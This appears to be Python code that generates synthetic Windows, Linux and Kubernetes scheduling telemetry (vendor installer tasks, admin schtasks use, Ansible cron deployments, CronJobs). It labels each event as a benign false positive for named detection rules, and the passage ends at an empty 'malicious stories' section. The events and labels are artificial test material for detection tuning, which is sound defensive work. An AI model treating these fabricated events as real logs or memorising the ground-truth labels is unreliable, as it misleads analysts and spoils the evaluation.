    """NVIDIA driver + app install on engineering/lab machines: GUID-suffixed NVIDIA tasks, one via rundll32."""
    u = prim(host)
    t = work_time(day)
    sc = "NVIDIA display driver/app install registers Nv* maintenance tasks (%s)" % NV_GUID
    nvc = "C:\\Program Files\\NVIDIA Corporation"
    tasks = [("\\NvDriverUpdateCheckDaily_" + NV_GUID, "C:\\Windows\\system32\\rundll32.exe",
              '"%s\\Update Core\\NvUpdt.dll",run_DriverUpdateCheckDaily' % nvc, "S-1-5-18"),
             ("\\NvProfileUpdaterDaily_" + NV_GUID, '"%s\\Update Core\\NvProfileUpdater64.exe"' % nvc, "/daily",
              "S-1-5-18"),
             ("\\NvTmRep_CrashReport1_" + NV_GUID, '"%s\\NvTmRep\\NvTmRep.exe"' % nvc, "--crash-report",
              usid(u))]
    for i, (name, cmd, args, uid) in enumerate(tasks):
        x = task_xml(t, "NVIDIA Corporation", name, [trig_daily(boundary(t, 12, 25 + i, 0))], cmd, args, user_id=uid,
                     logon_type="ServiceAccount" if uid == "S-1-5-18" else "InteractiveToken",
                     description="NVIDIA driver and application maintenance task.")
        rules = dict(A_scheduled_task_was_created=[29])
        if "rundll32" in cmd:
            rules["Schedule_Task_with_Rundll32_Command_Trigger"] = []   # the ESCU search carries no LoFP note
        emit(task4698(host, t + timedelta(milliseconds=500 * (i + 1)), duser(u), name, x), benign(sc, **rules))


def b_adobe(host, day):
    """Adobe Creative Cloud / Acrobat Reader installs run elevated by the user: AdobeGCInvoker + ARM update task."""
    u = prim(host)
    t = work_time(day)
    sc = "Adobe Creative Cloud + Acrobat Reader install registers AdobeGCInvoker-1.0 and Adobe Acrobat Update Task"
    x = task_xml(t, "Adobe Systems Incorporated", "\\AdobeGCInvoker-1.0",
                 [trig_daily(boundary(t, t.hour, t.minute, 0)), trig_logon("%s\\%s" % (NETBIOS, u))],
                 '"C:\\Program Files (x86)\\Common Files\\Adobe\\AdobeGCClient\\AGCInvokerUtility.exe"', None,
                 user_id=usid(u), logon_type="InteractiveToken")
    emit(task4698(host, t, duser(u), "\\AdobeGCInvoker-1.0", x), benign(sc, A_scheduled_task_was_created=[29]))
    t2 = t + timedelta(minutes=rng.randrange(3, 20))
    x2 = task_xml(t2, "Adobe Systems Incorporated", "\\Adobe Acrobat Update Task",
                  [trig_logon(), trig_daily(boundary(t2, 12, 0, 0))],
                  "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe", None, group_id="S-1-5-4",
                  description="This task keeps your Adobe Reader and Acrobat applications up to date with the latest "
                              "enhancements and security fixes")
    emit(task4698(host, t2, duser(u), "\\Adobe Acrobat Update Task", x2), benign(sc, A_scheduled_task_was_created=[29]))


def b_office_bth(host, day):
    """Microsoft 365 Apps (Click-to-Run) first run in a new profile registers the per-user background task handler tasks."""
    u = prim(host)
    t = at(day, rng.choice([8, 9]), rng.randrange(60))
    sc = "Microsoft 365 Apps first run registers per-user OfficeBackgroundTaskHandler tasks"
    exe = "C:\\Program Files\\Microsoft Office\\root\\Office16\\officebackgroundtaskhandler.exe"
    for i, (name, trig, args) in enumerate((
            ("\\Microsoft\\Office\\OfficeBackgroundTaskHandlerRegistration",
             [trig_repeat(boundary(t, t.hour, t.minute, 0), "PT1H")], "/RegisterIfNotRegistered"),
            ("\\Microsoft\\Office\\OfficeBackgroundTaskHandlerLogon", [trig_logon("%s\\%s" % (NETBIOS, u))], "/Logon"))):
        x = task_xml(t, "Microsoft Office", name, trig, exe, args, user_id=usid(u), logon_type="InteractiveToken")
        emit(task4698(host, t + timedelta(milliseconds=200 + 150 * i), duser(u), name, x),
             benign(sc, A_scheduled_task_was_created=[29]))


def onedrive_task(t, u):
    name = "\\OneDrive Startup Task-%s" % usid(u)
    x = task_xml(t, "Microsoft Corporation", name, [trig_logon("%s\\%s" % (NETBIOS, u))],
                 "C:\\Users\\%s\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveLauncher.exe" % u, "/startInstances",
                 user_id=usid(u), logon_type="InteractiveToken",
                 description="Starts OneDrive for the signed-in user.")
    return name, x


def b_onedrive_new(host, day):
    u = prim(host)
    t = at(day, rng.choice([8, 9, 10]), rng.randrange(60))
    name, x = onedrive_task(t, u)
    emit(task4698(host, t, duser(u), name, x),
         benign("OneDriveSetup.exe (per-user, AppData) registers 'OneDrive Startup Task-<SID>' for a new profile",
                A_scheduled_task_was_created=[29]))


def b_onedrive_update(host, day):
    u = prim(host)
    t = at(day, rng.randrange(9, 17), rng.randrange(60))
    name, x = onedrive_task(t, u)
    emit(task4698(host, t, duser(u), name, x, code=4702),
         benign("OneDrive client self-update re-registers the per-user 'OneDrive Startup Task-<SID>'",
                A_scheduled_task_was_updated=[29]))


def b_intel_dsa(host, day):
    """Intel Driver & Support Assistant: the WiX Burn engine runs from C:\\Windows\\Temp\\{GUID}\\.be\\ as SYSTEM."""
    t = work_time(day)
    g = det_guid_braced("burn", host)
    eng = "C:\\Windows\\Temp\\%s\\.be\\Intel-Driver-and-Support-Assistant-Installer.exe" % g
    cmd = ('"C:\\Windows\\system32\\schtasks.exe" /Create /F /TN "\\Intel\\Intel Telemetry 3" /TR '
           '"\\"C:\\Program Files\\Intel\\SUR\\QUEENCREEK\\x64\\task.exe\\"" /SC DAILY /ST 10:42 /RU SYSTEM /RL HIGHEST')
    emit(proc(host, t, SYSTEM, SCHT, cmd, eng, '"%s" -q -burn.elevated BurnPipe.%s' % (eng, det_uuid("pipe", host)),
              integrity="system", parent_signer="Intel Corporation"),
         benign("Intel Driver & Support Assistant installer (WiX Burn engine in Windows\\Temp) registers "
                "Intel Telemetry 3 task as SYSTEM",
                Windows_Schtasks_Create_Run_As_System=[18], Windows_Scheduled_Task_with_Highest_Privileges=[15]))


def b_hpsa(host, day):
    """HP Support Assistant SoftPaq, extracted to C:\\SWSetup\\SP*, calls schtasks through a cmd wrapper."""
    u = prim(host)
    t = work_time(day)
    sp = "C:\\SWSetup\\SP15%04d" % (int(det_hex("sp", n=4), 16) % 10000)
    sc = "HP Support Assistant SoftPaq (C:\\SWSetup) install script registers Quick Start logon task"
    cmd = ('schtasks /create /tn "\\Hewlett-Packard\\HP Support Assistant\\HP Support Assistant Quick Start" /tr '
           '"\\"C:\\Program Files (x86)\\HP\\HP Support Framework\\HPSF.exe\\" /qs" /sc onlogon /rl highest /f')
    emit(proc(host, t, duser(u), SCHT, cmd, "C:\\Windows\\SysWOW64\\cmd.exe",
              'C:\\Windows\\system32\\cmd.exe /c ""%s\\InstallHPSA.cmd" /s"' % sp),
         benign(sc, Windows_Scheduled_Task_with_Highest_Privileges=[15], Local_Scheduled_Task_Creation=[29]))
    name = "\\Hewlett-Packard\\HP Support Assistant\\HP Support Assistant Quick Start"
    x = task_xml(t, "HP Inc.", name, [trig_logon()], '"C:\\Program Files (x86)\\HP\\HP Support Framework\\HPSF.exe"',
                 "/qs", user_id=usid(u), logon_type="InteractiveToken", run_level="HighestAvailable")
    emit(task4698(host, later(t), duser(u), name, x), benign(sc, A_scheduled_task_was_created=[29]))


def b_amd(host, day):
    u = prim(host)
    t = work_time(day)
    sc = "AMD Software: Adrenalin Edition install (C:\\AMD) registers StartCN / StartDVR logon tasks"
    cn = "C:\\Program Files\\AMD\\CNext\\CNext"
    for i, (name, cmd, args) in enumerate((("\\StartCN", '"%s\\cncmd.exe"' % cn, "restart"),
                                           ("\\StartDVR", '"%s\\amddvr.exe"' % cn, "-autostart"))):
        x = task_xml(t, "Advanced Micro Devices", name, [trig_logon("%s\\%s" % (NETBIOS, u))], cmd, args,
                     user_id=usid(u), logon_type="InteractiveToken", run_level="HighestAvailable")
        rules = dict(A_scheduled_task_was_created=[29])
        if name == "\\StartCN":
            # TaskContent contains "cncmd.exe", which the ESCU search's *cmd.exe* wildcard matches
            rules["WinEvent_Scheduled_Task_Created_to_Spawn_Shell"] = [13]
        emit(task4698(host, t + timedelta(seconds=2 * i), duser(u), name, x), benign(sc, **rules))


# ---------------------------------------------------------------- benign: management tools (Windows)

IME = "C:\\Program Files (x86)\\Microsoft Intune Management Extension"


def b_psadt_xml(host, day):
    """ConfigMgr application (PSAppDeployToolkit) imports a task from XML in ccmcache; the task runs PowerShell."""
    t = at(day, rng.randrange(10, 16), rng.randrange(60))
    cache = "C:\\Windows\\ccmcache\\%s" % rng.choice(["3k", "3m", "41", "4c"])
    sc = "ConfigMgr app (PSADT) imports \\Contoso\\BitLockerKeyEscrow task from XML in ccmcache"
    cmd = '"C:\\Windows\\system32\\schtasks.exe" /Create /TN "\\Contoso\\BitLockerKeyEscrow" /XML "%s\\Files\\BitLockerKeyEscrow.xml" /F' % cache
    emit(proc(host, t, SYSTEM, SCHT, cmd, PS,
              '"%s" -ExecutionPolicy Bypass -NoProfile -NoLogo -WindowStyle Hidden -File "%s\\Deploy-Application.ps1" '
              '-DeploymentType "Install" -DeployMode "Silent"' % (PS, cache), integrity="system"),
         benign(sc, Windows_Scheduled_Task_Created_Via_XML=[21]))
    x = task_xml(t, "%s\\IT Endpoint Engineering" % NETBIOS, "\\Contoso\\BitLockerKeyEscrow",
                 [trig_daily(boundary(t, 11, 0, 0))], "powershell.exe",
                 '-NoProfile -ExecutionPolicy Bypass -File "C:\\ProgramData\\Contoso\\BitLocker\\Backup-BitLockerKey.ps1"',
                 user_id="S-1-5-18", logon_type="ServiceAccount", principal_id="System",
                 description="Escrows the BitLocker recovery password to Entra ID (app: Contoso BitLocker Escrow 1.4).")
    emit(task4698(host, later(t), machine(host), "\\Contoso\\BitLockerKeyEscrow", x),
         benign(sc, WinEvent_Scheduled_Task_Created_to_Spawn_Shell=[13]))


GP_VBS = "C:\\ProgramData\\Contoso\\GlobalProtect\\Connect-GP.vbs"


def b_intune_vpn(host, day, run_days):
    """Intune Win32 app 'GlobalProtect AutoConnect': install script registers a logon task (wscript, ProgramData)."""
    t = at(day, rng.randrange(8, 18), rng.randrange(60))
    sc = "Intune Win32 app install script registers \\Contoso\\GlobalProtect-AutoConnect logon task"
    cmd = ('"%s" -NoProfile -ExecutionPolicy Bypass -File ".\\Install-GPAutoConnect.ps1" -Mode Install' % PS)
    emit(dict(kind="script_task", host=host, time=t, user=SYSTEM, image=PS, cmdline=cmd, pid=win_pid(),
              parent_image="%s\\AgentExecutor.exe" % IME, task_key=det_guid_braced("gp", host)),
         benign(sc, Scheduled_Task_Created_by_a_Windows_Script=[29]))
    x = task_xml(t, "%s\\IT Endpoint Engineering" % NETBIOS, "\\Contoso\\GlobalProtect-AutoConnect", [trig_logon()],
                 "wscript.exe", '//B //NoLogo "%s"' % GP_VBS, group_id="S-1-5-32-545",
                 description="Connects GlobalProtect at logon (Intune app: GlobalProtect AutoConnect 2.1).")
    emit(task4698(host, later(t), machine(host), "\\Contoso\\GlobalProtect-AutoConnect", x),
         benign(sc, WinEvent_Scheduled_Task_Created_to_Spawn_Shell=[13]))
    u = prim(host)
    for d in run_days:
        emit(scheduled_run(host, at(d, rng.choice([7, 8, 9]), rng.randrange(60)), duser(u),
                           "C:\\Windows\\System32\\wscript.exe", 'wscript.exe //B //NoLogo "%s"' % GP_VBS),
             benign("GlobalProtect-AutoConnect logon task runs wscript from ProgramData",
                    Suspicious_Execution_via_Scheduled_Task=[30]))


def b_me_reboot(host, day):
    """ManageEngine Endpoint Central patch deployment schedules the post-patch restart."""
    t = at(day, rng.randrange(19, 22), rng.randrange(60))
    sd = (t + timedelta(days=1)).strftime("%m/%d/%Y")
    cmd = ('schtasks /create /tn "ManageEngine\\PatchRestart" /tr "shutdown.exe /r /f /t 600 /c \\"Patches were '
           'installed by Endpoint Central. This server restarts in 10 minutes.\\"" /sc once /sd %s /st 02:30 /ru SYSTEM /f' % sd)
    emit(proc(host, t, SYSTEM, SCHT, cmd, "C:\\Windows\\SysWOW64\\cmd.exe",
              'cmd.exe /c "C:\\Program Files (x86)\\ManageEngine\\UEMS_Agent\\patch\\scripts\\RestartWindow.bat"',
              integrity="system"),
         benign("ManageEngine Endpoint Central patch job schedules a one-time restart task (SYSTEM)",
                Schtasks_used_for_forcing_a_reboot=[38], Windows_Schtasks_Create_Run_As_System=[18]))


PDQ_PKGS = ["Dell Command Update 5.4", "Notepad++ 8.7.5", "7-Zip 24.09", "Zoom Workplace 6.3.6",
            "Microsoft Teams (new) bootstrapper"]


def b_pdq(host, day, pkg):
    """PDQ Deploy 'Run As: Logged on User' step: the runner registers a task for the user and removes it."""
    t = at(day, rng.randrange(10, 17), rng.randrange(60))
    u = prim(host)
    name = "\\PDQDeployRunner-1\\UserStep-%s" % det_uuid("pdq", host, pkg)
    sc = "PDQ Deploy (svc_pdq) package '%s': run-as-logged-on-user step via short-lived task" % pkg
    x = task_xml(t, "%s\\svc_pdq" % NETBIOS, name, [trig_once(boundary(t, t.hour, t.minute, 0, ))], "C:\\Windows\\System32\\cmd.exe",
                 '/c "C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\exec\\user-step.cmd"', user_id=usid(u),
                 logon_type="InteractiveToken",
                 description="PDQ Deploy run as logged on user")
    c = task4698(host, t, duser("svc_pdq"), name, x)
    emit(dict(c), benign(sc, A_scheduled_task_was_created=[29], WinEvent_Scheduled_Task_Created_to_Spawn_Shell=[13]))
    d = task4698(host, t + timedelta(seconds=rng.randrange(4, 25)), duser("svc_pdq"), name, x, code=4699)
    emit(dict(kind="tmp_task", host=host, time=d["time"], created=c, deleted=d),
         benign(sc, Temporarily_Scheduled_Task_Creation=[29]))


def b_agent_msi_run(host, day):
    t = at(day, 3, rng.randrange(10, 50))
    emit(scheduled_run(host, t, SYSTEM, "C:\\Windows\\System32\\msiexec.exe",
                       'msiexec.exe /i "\\\\fs-01\\deploy$\\AssetAgent\\ContosoAssetAgent-3.2.1.msi" /qn /norestart '
                       'REINSTALLMODE=vomus', integrity="system"),
         benign("in-house asset agent weekly self-update task runs msiexec from the deploy share",
                Svchost_LOLBAS_Execution_Process_Spawn=[24]))


# ---------------------------------------------------------------- benign: admin work (Windows)

def admin_shell(admin):
    """The admins work from a cmd or PowerShell console on the jump host."""
    if rng.random() < 0.5:
        return CMD, '"C:\\Windows\\system32\\cmd.exe" '
    return PS, '"%s" ' % PS


def b_jump_create(target, day, admin, kind):
    jump = rng.choice(JUMP)
    t = at(day, rng.randrange(9, 18), rng.randrange(60))
    fq = target + "." + DOMAIN
    if kind == "sqlcopy":
        tn = "\\Contoso\\SQLBackupCopy"
        tr = "robocopy D:\\SQLBackup \\\\fs-01\\sqlbackup$\\%s /MIR /R:2 /W:5 /LOG:D:\\SQLBackup\\copy.log" % target
        cmd = ('schtasks.exe /Create /S %s /U %s\\%s /P ******** /TN "%s" /TR "%s" /SC DAILY /ST 01:30 '
               '/RU %s\\svc_sqlbackup /RP ********' % (fq, NETBIOS, admin, tn, tr, NETBIOS))
        x = task_xml(t, "%s\\%s" % (NETBIOS, admin), tn, [trig_daily(boundary(t, 1, 30))], "robocopy",
                     tr[len("robocopy "):], user_id="%s\\svc_sqlbackup" % NETBIOS, logon_type="Password")
        sc = "%s creates SQLBackupCopy (robocopy) task on %s from jump host %s" % (admin, target, jump)
        splunk = dict(Schtasks_scheduling_job_on_remote_system=[42])
        target_rules = dict(A_scheduled_task_was_created=[], Remote_Scheduled_Task_Creation_via_RPC=[])
    else:
        tn = "\\Contoso\\IISLogCleanup"
        args = "-NoProfile -ExecutionPolicy Bypass -File D:\\Ops\\Remove-OldIISLogs.ps1 -Days 14"
        cmd = ('schtasks.exe /Create /S %s /U %s\\%s /P ******** /TN "%s" /TR "powershell.exe %s" /SC WEEKLY /D SUN '
               '/ST 04:00 /RU SYSTEM /F' % (fq, NETBIOS, admin, tn, args))
        x = task_xml(t, "%s\\%s" % (NETBIOS, admin), tn, [trig_weekly(boundary(t, 4, 0), "Sunday")], "powershell.exe",
                     args, user_id="S-1-5-18", logon_type="ServiceAccount")
        sc = "%s creates IISLogCleanup task (PowerShell -ExecutionPolicy Bypass, SYSTEM) on %s from jump host %s" % (
            admin, target, jump)
        # /RU SYSTEM by an interactive admin: no 'legitimate application' note fits the Run-As-System search
        splunk = dict(Schtasks_scheduling_job_on_remote_system=[42], Windows_Schtasks_Create_Run_As_System=[])
        target_rules = dict(A_scheduled_task_was_created=[], Remote_Scheduled_Task_Creation_via_RPC=[],
                            WinEvent_Scheduled_Task_Created_to_Spawn_Shell=[13])
    pimg, pcmd = admin_shell(admin)
    emit(proc(jump, t, duser(admin), SCHT, cmd, pimg, pcmd), benign(sc, Local_Scheduled_Task_Creation=[], **splunk))
    emit(task4698(target, later(t, 400, 1500), duser(admin), tn, x, remote=True), benign(sc, **target_rules))


def b_jump_run(target, day, admin, tn):
    jump = rng.choice(JUMP)
    t = at(day, rng.randrange(9, 18), rng.randrange(60))
    pimg, pcmd = admin_shell(admin)
    emit(proc(jump, t, duser(admin), SCHT, 'schtasks.exe /Run /S %s.%s /TN "%s"' % (target, DOMAIN, tn), pimg, pcmd),
         benign("%s starts %s on %s from jump host to verify it" % (admin, tn, target),
                Scheduled_Task_Initiation_on_Remote_Endpoint=[7], Schtasks_Run_Task_On_Demand=[10]))


def b_admin_local_run(host, day, admin, tn):
    t = at(day, rng.randrange(9, 18), rng.randrange(60))
    emit(proc(host, t, duser(admin), SCHT, 'schtasks /run /tn "%s"' % tn, CMD, '"C:\\Windows\\system32\\cmd.exe" '),
         benign("%s re-runs %s by hand on %s while troubleshooting" % (admin, tn, host),
                Schtasks_Run_Task_On_Demand=[10]))


def b_admin_ps_register(host, day, admin):
    """An admin registers an index-maintenance task with a PowerShell script run with -ExecutionPolicy Bypass."""
    t = at(day, rng.randrange(10, 17), rng.randrange(60))
    sc = "%s registers \\Contoso\\DBMaintenance-IndexRebuild via PowerShell (-ExecutionPolicy Bypass) on %s" % (admin, host)
    cmd = '"%s" -NoProfile -ExecutionPolicy Bypass -File "C:\\Ops\\Register-DbMaintenance.ps1" -Instance MSSQLSERVER' % PS
    emit(dict(kind="script_task", host=host, time=t, user=duser(admin), image=PS, cmdline=cmd, pid=win_pid(),
              parent_image="C:\\Windows\\explorer.exe", task_key=det_guid_braced("dbm", host)),
         benign(sc, Scheduled_Task_Created_by_a_Windows_Script=[]))
    x = task_xml(t, "%s\\%s" % (NETBIOS, admin), "\\Contoso\\DBMaintenance-IndexRebuild",
                 [trig_weekly(boundary(t, 23, 0), "Saturday")], "powershell.exe",
                 "-NoProfile -ExecutionPolicy Bypass -File C:\\Ops\\Invoke-IndexMaintenance.ps1 -FragmentationThreshold 30",
                 workdir="C:\\Ops", user_id="%s\\svc_sqlbackup" % NETBIOS, logon_type="Password")
    emit(task4698(host, later(t, 300, 900), duser(admin), "\\Contoso\\DBMaintenance-IndexRebuild", x),
         benign(sc, A_scheduled_task_was_created=[], WinEvent_Scheduled_Task_Created_to_Spawn_Shell=[13]))


def b_forfiles_run(host, day):
    t = at(day, 4, rng.randrange(0, 20))
    emit(scheduled_run(host, t, duser("svc_maint"), "C:\\Windows\\System32\\forfiles.exe",
                       'forfiles.exe /p "D:\\Logs" /s /m *.log /d -30 /c "cmd /c del /q @path"', integrity="high"),
         benign("weekly \\Contoso\\LogRetention task runs forfiles to delete logs older than 30 days",
                Svchost_LOLBAS_Execution_Process_Spawn=[24]))


GPO_WKS_MAINT = "{5D3C1A9E-7F21-4B8C-A0E4-93B6C2D71F08}"
GPO_SRV_BASE = "{A16E02F4-3B7D-4C59-8E1A-F0C4D2B9E735}"


def share5145(host, when, subject, ip, rel):
    return dict(kind="5145", host=host, time=when, subject=subject, ip=ip, port=str(rng.randrange(49152, 65535)),
                rel=rel, logon_id="0x%x" % rng.randrange(0x100000, 0xffffff), record_id=str(rng.randrange(1000000, 9000000)))


def gpo_paths(gpo):
    rel = "%s\\Policies\\%s\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml" % (DOMAIN, gpo)
    full = "C:\\Windows\\SYSVOL\\domain\\Policies\\%s\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml" % gpo
    return rel, full


def b_gpo_edit(dc, day, admin, gpo):
    t = at(day, rng.randrange(9, 17), rng.randrange(60))
    rel, full = gpo_paths(gpo)
    sc = "%s edits GPP scheduled tasks of GPO %s in GPMC on the DC itself (loopback source)" % (admin, gpo)
    emit(share5145(dc, t, duser(admin), rng.choice(["::1", "127.0.0.1"]), rel),
         benign(sc, Scheduled_Task_Execution_at_Scale_via_GPO=[]))
    emit(wfile(dc, later(t, 20, 80), duser(admin), full, None, pid=4),
         benign(sc, Creation_or_Modification_of_a_new_GPO_Scheduled_Task_or_Service=[]))


def b_gpp_task(host, day):
    t = at(day, rng.randrange(7, 19), rng.randrange(60))
    x = task_xml(t, "%s\\adm_rvasquez" % NETBIOS, "\\Contoso-CollectInventory", [trig_daily(boundary(t, 12, 15))],
                 "powershell.exe", '-NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -File '
                 '"\\\\%s\\NETLOGON\\Inventory\\Collect-Inventory.ps1"' % DOMAIN, user_id="S-1-5-18",
                 logon_type="ServiceAccount", principal_id="Author")
    emit(task4698(host, t, machine(host), "\\Contoso-CollectInventory", x),
         benign("Group Policy Preferences (GPO Workstation-Maintenance) creates Contoso-CollectInventory task",
                WinEvent_Scheduled_Task_Created_to_Spawn_Shell=[13]))


# ---------------------------------------------------------------- benign: Linux

def py_for(host):
    return {"ubuntu": "/usr/bin/python3.10", "rocky": "/usr/bin/python3.9", "debian": "/usr/bin/python3.11"}[
        HOSTS[host]["family"]]


def b_unattended_dpkg(host, day, pkg, path):
    t = at(day, rng.choice([6, 6, 7, 18]), rng.randrange(60))
    uu = rng.random() < 0.7
    par = (py_for(host), "/usr/bin/python3 /usr/bin/unattended-upgrade --mode=upgrade") if uu else \
        ("/usr/bin/apt-get", "apt-get -y dist-upgrade")
    emit(lfile(host, t, "root", path + ".dpkg-new", "/usr/bin/dpkg",
               "/usr/bin/dpkg --status-fd 10 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/%s" % pkg,
               par[0], par[1]),
         benign("%s: dpkg unpacks %s (writes %s)" % ("unattended-upgrades" if uu else "admin apt-get", pkg.split("_")[0], path),
                Linux_Add_Files_In_Known_Crontab_Directories=[2]))


def b_snap_certbot(host, day):
    t = at(day, rng.randrange(0, 24), rng.randrange(60))
    # snapd also rewrites snap.certbot.renew.timer; the Elastic timer rule excludes snapd, so only the .service alerts
    emit(lfile(host, t, "root", "/etc/systemd/system/snap.certbot.renew.service", "/usr/lib/snapd/snapd",
               "/usr/lib/snapd/snapd", "/usr/lib/systemd/systemd", "/sbin/init"),
         benign("snapd refreshes the certbot snap and rewrites the snap.certbot.renew units",
                Linux_Service_File_Created_In_Systemd_Directory=[16]))


def b_dnf_units(host, day, path):
    t = at(day, rng.randrange(9, 17), rng.randrange(60))
    emit(lfile(host, t, "root", path, "/usr/bin/python3.9", "/usr/bin/python3 /usr/bin/dnf -y upgrade",
               "/usr/bin/sudo", "sudo dnf -y upgrade", action="rename", name="dnf"),
         benign("dnf upgrade installs package file %s" % path,
                **({"Linux_Service_File_Created_In_Systemd_Directory": [16]} if path.endswith(".service") else
                   {"Linux_Add_Files_In_Known_Crontab_Directories": [2]})))


def b_crontab_e(host, day, user):
    t = at(day, rng.randrange(9, 18), rng.randrange(60))
    spool = "/var/spool/cron/crontabs/" if HOSTS[host]["family"] != "rocky" else "/var/spool/cron/"
    sc = "%s edits own crontab interactively (crontab -e) on %s" % (user, host)
    emit(lproc(host, t, user, "/usr/bin/crontab", "crontab -e", "/usr/bin/bash", "-bash"),
         benign(sc, Linux_Edit_Cron_Table_Parameter=[4]))
    emit(lfile(host, t + timedelta(seconds=rng.randrange(40, 240)), user, spool + user, "/usr/bin/crontab", "crontab -e",
               "/usr/bin/bash", "-bash", action="rename"),
         benign(sc, Linux_Add_Files_In_Known_Crontab_Directories=[2]))


def b_crontab_l(host, day):
    t = at(day, rng.choice([2, 14]), rng.randrange(0, 5))
    emit(lproc(host, t, "root", "/usr/bin/crontab", "crontab -l -u www-data", "/usr/bin/bash",
               "/bin/bash /usr/lib/nagios/plugins/contoso/check_crontab_drift.sh www-data"),
         benign("NRPE drift check lists the www-data crontab (crontab -l)", Linux_Adding_Crontab_Using_List_Parameter=[4]))


def ansible_parent(host, module):
    tok = det_hex("become", host, module, rng.random(), n=32)
    tmp = "/home/svc_ansible/.ansible/tmp/ansible-tmp-17%08d.%d-%d-%d" % (rng.randrange(10 ** 8), rng.randrange(10 ** 6),
                                                                           rng.randrange(2000, 60000), rng.randrange(10 ** 14))
    return "/bin/sh", "/bin/sh -c echo BECOME-SUCCESS-%s ; /usr/bin/python3 %s/AnsiballZ_%s.py" % (tok, tmp, module), tmp


def b_ansible_cron(host, day, name):
    t = at(day, rng.randrange(10, 16), rng.randrange(60))
    pimg, pcmd, tmp = ansible_parent(host, "cron")
    emit(lfile(host, t, "root", "/etc/cron.d/" + name, py_for(host), "/usr/bin/python3 %s/AnsiballZ_cron.py" % tmp,
               pimg, pcmd, action="rename"),
         benign("Ansible play (svc_ansible from lnx-bastion-01) deploys /etc/cron.d/%s" % name,
                Linux_Add_Files_In_Known_Crontab_Directories=[2], Cron_Job_Created_or_Modified=[]))


def b_puppet_cron(host, day, name):
    t = at(day, rng.randrange(0, 24), rng.randrange(60))
    emit(lfile(host, t, "root", "/etc/cron.d/" + name, "/opt/puppetlabs/puppet/bin/ruby",
               "/opt/puppetlabs/puppet/bin/ruby /opt/puppetlabs/puppet/bin/puppet agent --onetime --no-daemonize",
               "/opt/puppetlabs/puppet/bin/ruby", "/opt/puppetlabs/puppet/bin/puppet agent --no-daemonize",
               name="puppet"),
         benign("Puppet agent run manages /etc/cron.d/%s" % name, Linux_Add_Files_In_Known_Crontab_Directories=[2]))


def b_pgbackrest_timer(host, day):
    t = at(day, rng.randrange(10, 16), rng.randrange(60))
    sc = "Ansible role installs and enables pgbackrest-full service/timer on %s" % host
    for i, ext in enumerate(("service", "timer")):
        pimg, pcmd, tmp = ansible_parent(host, "copy")
        rules = dict(Linux_Service_File_Created_In_Systemd_Directory=[16]) if ext == "service" else \
            dict(Systemd_Timer_Created=[])
        emit(lfile(host, t + timedelta(seconds=2 * i), "root", "/etc/systemd/system/pgbackrest-full.%s" % ext,
                   py_for(host), "/usr/bin/python3 %s/AnsiballZ_copy.py" % tmp, pimg, pcmd, action="rename"),
             benign(sc, **rules))
    pimg, pcmd, tmp = ansible_parent(host, "systemd")
    emit(lproc(host, t + timedelta(seconds=rng.randrange(5, 20)), "root", "/usr/bin/systemctl",
               "/usr/bin/systemctl enable --now pgbackrest-full.timer", py_for(host),
               "/usr/bin/python3 %s/AnsiballZ_systemd.py" % tmp),
         benign(sc, Linux_Service_Started_Or_Enabled=[5]))


def b_restart(host, day, svc, admin):
    t = at(day, rng.randrange(8, 20), rng.randrange(60))
    verb = rng.choice(["restart", "reload", "restart"])
    emit(lproc(host, t, "root", "/usr/bin/systemctl", "systemctl %s %s" % (verb, svc), "/usr/bin/sudo",
               "sudo systemctl %s %s" % (verb, svc)),
         benign("%s %ss %s after a configuration change" % (admin, verb, svc), Linux_Service_Restarted=[5]))


def b_cron_regen(host, day):
    t = at(day, 0, 5, rng.randrange(1, 4))
    emit(lproc(host, t, "cihk", "/usr/bin/crontab", "crontab /srv/ci-housekeeping/current/crontab", "/usr/sbin/cron",
               "/usr/sbin/cron -f -P"),
         benign("CI housekeeping user's nightly cron job re-installs its crontab from the repo checkout",
                Potential_Persistence_via_Cron_Job=[32]))


def b_admin_at(host, day, admin):
    t = at(day, rng.randrange(15, 18), rng.randrange(60))
    sc = "%s schedules a one-off maintenance job with at (23:30)" % admin
    emit(lproc(host, t, "root", "/usr/bin/at", "at 23:30", "/usr/bin/bash", "-bash"),
         benign(sc, Linux_At_Application_Execution=[4]))
    emit(lfile(host, later(t, 10, 60), "root", "/var/spool/cron/atjobs/a%05x%s" % (rng.randrange(1, 300),
               det_hex("atj", host, day, n=8)), "/usr/bin/at", "at 23:30", "/usr/bin/bash", "-bash"),
         benign(sc, At_Job_Created_or_Modified=[], Linux_Add_Files_In_Known_Crontab_Directories=[2]))


# ---------------------------------------------------------------- benign: Kubernetes

KUBECTL_UA = "kubectl/v1.31.4 (linux/amd64) kubernetes/a78aa47"
ARGO_UA = "argocd-application-controller/v2.13.3+a25c8a0 (linux/amd64) kubernetes/$Format"
HELMCTL_UA = "helm-controller/v1.1.0 (linux/amd64) kubernetes/$Format"
RUNNER_SA = "system:serviceaccount:gitlab-runner:gitlab-runner"
RUNNER_GROUPS = "system:serviceaccounts\nsystem:serviceaccounts:gitlab-runner\nsystem:authenticated"


def b_k8s(day, ns, name, schedule, image, via):
    t = at(day, rng.randrange(8, 20), rng.randrange(60))
    if via == "runner":
        user, ip, ua, groups = RUNNER_SA, "10.42.%d.%d" % (rng.randrange(1, 4), rng.randrange(2, 250)), KUBECTL_UA, RUNNER_GROUPS
        sc = "GitLab CI deploy job (gitlab-runner SA, kubectl replace --force) re-creates CronJob %s/%s" % (ns, name)
    elif via == "argocd":
        user, ip, ua = "system:serviceaccount:argocd:argocd-application-controller", "10.42.2.31", ARGO_UA
        groups = "system:serviceaccounts\nsystem:serviceaccounts:argocd\nsystem:authenticated"
        sc = "Argo CD sync creates CronJob %s/%s" % (ns, name)
    else:
        user, ip, ua = "system:serviceaccount:flux-system:helm-controller", "10.42.1.18", HELMCTL_UA
        groups = "system:serviceaccounts\nsystem:serviceaccounts:flux-system\nsystem:authenticated"
        sc = "Flux helm-controller installs a chart release that creates CronJob %s/%s" % (ns, name)
    emit(k8s(t, user, ip, ua, ns, name, schedule, image, None, groups), benign(sc, Kubernetes_Cron_Job_Creation=[]))


# ---------------------------------------------------------------- malicious stories

